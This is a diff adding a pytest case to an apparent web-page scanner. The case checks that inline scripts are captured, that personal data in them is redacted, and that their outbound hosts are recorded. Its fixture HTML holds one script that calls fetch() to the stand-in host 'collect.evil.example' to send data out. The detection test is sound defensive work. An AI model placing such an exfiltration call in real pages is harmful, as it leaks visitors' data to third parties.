@@ -5,8 +5,9 @@ import json
 import pytest
 
 from demo.web import Web
+from scans.diff import inline
 from scans.snapshot import Box, Form, Observation
-from tests.scans.capture.seeing import html, one_page, see
+from tests.scans.capture.seeing import html, one_page, scan, see
 
 pytestmark = pytest.mark.browser
 HOST, THIRD = "www.reading.test", "frames.reading-ads.test"
@@ -95,6 +96,17 @@ def test_elements_named_like_what_a_document_has_hide_nothing():
         (f"{URL}a", "get", "querySelectorAll", 5),
         (URL, "get", "readyState", 0),
     ]
+
+
+def test_what_an_inline_script_is_and_reaches_is_read_from_what_is_kept_of_it():
+    body = """<script>var t = "jane@home.example"; fetch("https://collect.evil.example/x?n=" + 1)</script><script src="/own.js"></script>"""
+    with Web({HOST: one_page(body)}) as web:
+        captured = scan(web, URL)
+    [script] = [script for script in captured.snapshot.observations[0].scripts if script.inline]
+    kept = captured.evidence[script.sha256].decode()
+    assert "{redacted}" in kept
+    assert (script.normalised_sha256, script.shape) == (inline.normalised_sha256(kept), inline.shape(kept))
+    assert script.reaches == ["collect.evil.example"]
 
 
 def test_a_page_without_forms_has_none():
